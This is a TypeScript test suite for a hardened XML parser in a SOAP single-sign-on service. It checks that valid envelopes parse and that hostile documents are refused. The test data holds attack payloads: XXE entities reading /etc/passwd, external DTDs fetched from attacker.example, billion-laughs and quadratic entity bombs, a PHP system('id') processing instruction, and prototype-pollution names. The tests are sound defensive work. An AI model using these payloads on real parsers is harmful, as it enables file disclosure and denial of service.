// The hardened XML reader: the spec's examples parse into the element tree; every hostile or
// malformed document of the catalog's section A (docs/SECURITY.md) is refused with a short
// reason. That each is refused quickly is measured on its own, in xml.timing.test.ts.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { SSO_NS } from '../../src/adapters/soap/faults.js';
import { HandlerSlotsParser, XmlRefusal, escapeXmlAttribute, escapeXmlText, parseXml, type XmlElement } from '../../src/infra/xml.js';

const SOAP12_NS = 'http://www.w3.org/2003/05/soap-envelope';
const VECTORS = new URL('../../../test/vectors/protocol/', import.meta.url);

function vector(name: string): string {
  return readFileSync(new URL(name, VECTORS), 'utf8');
}

/** Asserts a refusal whose reason matches `reason` and stays short (the SOAP envelope makes it a Sender fault). */
function assertRefused(text: string, reason: RegExp, limits?: Parameters<typeof parseXml>[1]): void {
  assert.throws(
    () => parseXml(text, limits),
    (error: unknown) => {
      assert.ok(error instanceof XmlRefusal, String(error));
      assert.match(error.message, reason);
      assert.ok(error.message.length < 200, `reason too long: ${error.message.length}`);
      return true;
    },
  );
}

function childNamed(element: XmlElement, local: string): XmlElement {
  const child = element.children.find((candidate) => candidate.local === local);
  assert.ok(child, `no child ${local}`);
  return child;
}

describe('parseXml: well-formed documents', () => {
  test('protocol §5.1 registerApplication example becomes an element tree', () => {
    const envelope = parseXml(vector('01-registerApplication.xml'));
    assert.equal(envelope.ns, SOAP12_NS);
    assert.equal(envelope.local, 'Envelope');
    assert.deepEqual(
      envelope.children.map((child) => child.local),
      ['Header', 'Body'],
    );
    const operation = childNamed(childNamed(envelope, 'Body'), 'registerApplication');
    assert.equal(operation.ns, SSO_NS);
    assert.deepEqual(
      operation.children.map((field) => [field.local, field.text]),
      [
        ['name', 'plesk'],
        ['displayName', 'Plesk for Unix'],
        ['version', '8.2'],
        ['capabilities', ''],
        ['url', 'https://plesk.example.com:8443/'],
        ['restorePasswordUrl', 'https://plesk.example.com:8443/plesk/$uid/restore_password/'],
        ['changePasswordUrl', 'https://plesk.example.com:8443/plesk/$uid/change_password/'],
      ],
    );
  });

  test('default namespaces and other prefixes resolve to the same names', () => {
    const root = parseXml(
      `<Envelope xmlns="${SOAP12_NS}"><Body><x:authenticate xmlns:x="${SSO_NS}"><login xmlns="${SSO_NS}">a</login></x:authenticate></Body></Envelope>`,
    );
    const operation = childNamed(childNamed(root, 'Body'), 'authenticate');
    assert.equal(root.ns, SOAP12_NS);
    assert.equal(operation.ns, SSO_NS);
    assert.equal(childNamed(operation, 'login').ns, SSO_NS);
  });

  test('attributes are keyed {ns}local or local; namespace declarations are not attributes', () => {
    const root = parseXml(`<a xmlns="urn:d" xmlns:p="urn:p" plain="1" p:qualified="2" xml:lang="en"/>`);
    assert.deepEqual(
      [...root.attributes],
      [
        ['plain', '1'],
        ['{urn:p}qualified', '2'],
        ['{http://www.w3.org/XML/1998/namespace}lang', 'en'],
      ],
    );
  });

  test('text, CDATA, predefined entities and character references are joined; comments are skipped', () => {
    const root = parseXml(
      '<?xml version="1.0" encoding="UTF-8"?>\n<!-- c --><a>x &amp; &lt;y&gt; &#x41;&#66;<!-- inner --><![CDATA[<raw>&amp;]]> z<b>child</b></a>',
    );
    assert.equal(root.text, 'x & <y> AB<raw>&amp; z');
    assert.equal(childNamed(root, 'b').text, 'child');
  });

  test('a leading byte order mark is accepted', () => {
    assert.equal(parseXml('\uFEFF<a>1</a>').text, '1');
  });
});

describe('parseXml: section A of the catalog (docs/SECURITY.md)', () => {
  test('A1: DOCTYPE with an external entity (file:///etc/passwd) is a Sender fault', () => {
    assertRefused('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>', /DOCTYPE/);
  });

  test('A1: DOCTYPE with an external parameter entity is a Sender fault', () => {
    assertRefused('<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><a/>', /DOCTYPE/);
  });

  test('A1: DOCTYPE with a PUBLIC id pointing at a URL is a Sender fault', () => {
    assertRefused('<!DOCTYPE a PUBLIC "-//A//B//EN" "http://attacker.example/a.dtd"><a/>', /DOCTYPE/);
  });

  test('A1: even a bare DOCTYPE is a Sender fault, and the reason quotes none of it', () => {
    assertRefused('<!DOCTYPE a><a/>', /^A DOCTYPE is not allowed\.$/);
  });

  test('A2: billion laughs is refused at once', () => {
    const entities = ['<!ENTITY lol0 "lol">'];
    for (let level = 1; level <= 9; level += 1) entities.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
    const bomb = `<!DOCTYPE lolz [${entities.join('')}]><lolz>&lol9;</lolz>`;
    assertRefused(bomb, /DOCTYPE/);
  });

  test('A2: quadratic blow-up, also in an attribute value, is refused at once', () => {
    const big = 'x'.repeat(50_000);
    const references = '&big;'.repeat(10_000);
    const blowUp = `<!DOCTYPE a [<!ENTITY big "${big}">]><a v="${references}">${references}</a>`;
    assertRefused(blowUp, /DOCTYPE/);
  });

  test('A2: entity references without a DOCTYPE are undefined, never expanded', () => {
    assertRefused('<a>&lol9;</a>', /undefined entity/);
    assertRefused('<a v="&lol9;"/>', /undefined entity/);
  });

  test('A3: a hundred thousand character references decode to their text (their cost: xml.timing.test.ts)', () => {
    const references = (count: number): string => `<a>${'&#x41;'.repeat(count)}</a>`;
    assert.equal(parseXml(references(100_000)).text.length, 100_000);
  });

  test('A4: 100 000 levels of nesting are refused without a stack overflow', () => {
    const depth = 100_000;
    const nested = `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    assertRefused(nested, /nested deeper than 32/);
  });

  test('A4: nesting up to the depth limit is accepted', () => {
    assert.equal(parseXml(`${'<a>'.repeat(32)}${'</a>'.repeat(32)}`).local, 'a');
    assertRefused(`${'<a>'.repeat(5)}${'</a>'.repeat(5)}`, /deeper than 4/, { maxDepth: 4 });
  });

  test('A4: 100 000 attributes are refused', () => {
    const attributes = Array.from({ length: 100_000 }, (_, index) => ` a${index}="v"`).join('');
    assertRefused(`<a${attributes}/>`, /more than 32 attributes/);
  });

  test('A4: 100 000 namespace declarations are refused', () => {
    const declarations = Array.from({ length: 100_000 }, (_, index) => ` xmlns:p${index}="urn:${index}"`).join('');
    assertRefused(`<a${declarations}/>`, /more than 32 attributes/);
  });

  test('A4: a 1 MB element name is refused with a short reason', () => {
    const name = 'n'.repeat(1_000_000);
    assertRefused(`<${name}></${name}>`, /name is longer than 256/);
  });

  test('A4: a 1 MB attribute name and a 1 MB namespace prefix are refused with a short reason', () => {
    const name = 'n'.repeat(1_000_000);
    assertRefused(`<a ${name}="1"/>`, /name is longer than 256/);
    assertRefused(`<${name}:a/>`, /name is longer than 256/);
  });

  test('A4: more than 2000 elements are refused', () => {
    assertRefused(`<a>${'<b/>'.repeat(2000)}</a>`, /more than 2000 elements/);
    assert.equal(parseXml(`<a>${'<b/>'.repeat(1999)}</a>`).children.length, 1999);
  });

  test('A6: processing instructions are refused, before and inside the root', () => {
    assertRefused('<?xml-stylesheet href="http://attacker.example/x.xsl"?><a/>', /Processing instructions/);
    assertRefused('<a><?php system("id"); ?></a>', /Processing instructions/);
  });

  test('A6: "--" inside a comment is refused', () => {
    assertRefused('<a><!-- one -- two --></a>', /Malformed XML/);
  });

  test('A6: missing and mismatched end tags are refused', () => {
    assertRefused('<a><b></a>', /Malformed XML/);
    assertRefused('<a><b>', /Malformed XML/);
    assertRefused('<a>', /Malformed XML/);
  });

  test('A6: two roots are refused', () => {
    assertRefused('<a/><b/>', /Malformed XML/);
  });

  test('A6: text after or before the root is refused', () => {
    assertRefused('<a/>trailing', /Malformed XML/);
    assertRefused('leading<a/>', /Malformed XML/);
  });

  test('A6: an empty document, an unbound prefix and bad characters are refused', () => {
    assertRefused('', /Malformed XML/);
    assertRefused('<p:a/>', /Malformed XML/);
    assertRefused('<a>&#x1;</a>', /Malformed XML/);
    assertRefused('<a>\u0001</a>', /Malformed XML/);
  });

  test('A6: only XML 1.0 in UTF-8 is accepted', () => {
    assertRefused('<?xml version="1.1"?><a/>', /version 1\.0/);
    assertRefused('<?xml version="1.0" encoding="ISO-8859-1"?><a/>', /UTF-8/);
    assert.equal(parseXml('<?xml version="1.0" encoding="utf-8" standalone="yes"?><a/>').local, 'a');
  });

  test('A9: __proto__, constructor and prototype as names change no prototype', () => {
    const before = Object.getOwnPropertyNames(Object.prototype);
    const root = parseXml('<__proto__ __proto__="x" constructor="y"><constructor><prototype>p</prototype></constructor></__proto__>');
    assert.equal(root.local, '__proto__');
    assert.equal(root.attributes.get('__proto__'), 'x');
    assert.equal(root.attributes.get('constructor'), 'y');
    assert.equal(childNamed(childNamed(root, 'constructor'), 'prototype').text, 'p');
    assert.deepEqual(Object.getOwnPropertyNames(Object.prototype), before);
    assert.equal(({} as Record<string, unknown>).x, undefined);
  });

  test('A9: &__proto__; and &constructor; are undefined entities', () => {
    assertRefused('<a>&__proto__;</a>', /undefined entity/);
    assertRefused('<a>&constructor;</a>', /undefined entity/);
  });

  test('A10: a fault reason never carries a long piece of the input', () => {
    const prefix = 'p'.repeat(200);
    assertRefused(`<${prefix}:a/>`, /^Malformed XML: .{0,80}$/);
  });
});

describe('escapeXmlText and escapeXmlAttribute', () => {
  test('markup characters round-trip through the parser', () => {
    const tricky = 'a & b < c > d " e \' ]]> f\r\n\tg';
    const root = parseXml(`<a v="${escapeXmlAttribute(tricky)}">${escapeXmlText(tricky)}</a>`);
    assert.equal(root.text, tricky);
    assert.equal(root.attributes.get('v'), tricky);
  });

  test('characters XML 1.0 cannot carry become U+FFFD; surrogate pairs stay', () => {
    const text = 'a\u0000b\u0008c\uD800d\uDFFFe\uFFFEf\uFFFF😀';
    assert.equal(escapeXmlText(text), 'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\uFFFD😀');
    assert.equal(parseXml(`<a>${escapeXmlText(text)}</a>`).text, 'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\uFFFD😀');
  });

  test('the shortcut for values that need no escaping answers as the full escaping does, for every UTF-16 code unit', () => {
    // The full escaping, as it is without the shortcut.
    // eslint-disable-next-line no-control-regex -- the characters XML 1.0 cannot carry
    const replaced = (text: string) => text.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uD800-\uDFFF\uFFFE\uFFFF]/gu, '\uFFFD');
    const entities: Readonly<Record<string, string>> = {
      '&': '&amp;',
      '<': '&lt;',
      '>': '&gt;',
      '"': '&quot;',
      '\r': '&#13;',
      '\t': '&#9;',
      '\n': '&#10;',
    };
    const text = (value: string) => replaced(value).replace(/[&<>\r]/g, (c) => entities[c] ?? c);
    const attribute = (value: string) => replaced(value).replace(/[&<>"\t\n\r]/g, (c) => entities[c] ?? c);
    for (let unit = 0; unit <= 0xffff; unit += 1) {
      const value = `id-${String.fromCharCode(unit)}-x`;
      assert.equal(escapeXmlText(value), text(value), `text U+${unit.toString(16)}`);
      assert.equal(escapeXmlAttribute(value), attribute(value), `attribute U+${unit.toString(16)}`);
    }
    for (const value of ['😀', 'a😀b', '\uD83D', 'x\uDE00', 'plain text, digits 0123 and . _ - : / = ?']) {
      assert.equal(escapeXmlText(value), text(value));
      assert.equal(escapeXmlAttribute(value), attribute(value));
    }
  });
});

test('the parser declares every handler slot that parseXml sets, so on() adds no property (V8 keeps it a fast object)', () => {
  const parser = new HandlerSlotsParser();
  const before = Object.keys(parser).length;
  for (const event of [
    'error',
    'doctype',
    'processinginstruction',
    'xmldecl',
    'opentagstart',
    'attribute',
    'opentag',
    'text',
    'cdata',
    'closetag',
  ] as const) {
    parser.on(event, () => undefined);
  }
  assert.equal(Object.keys(parser).length, before);
});
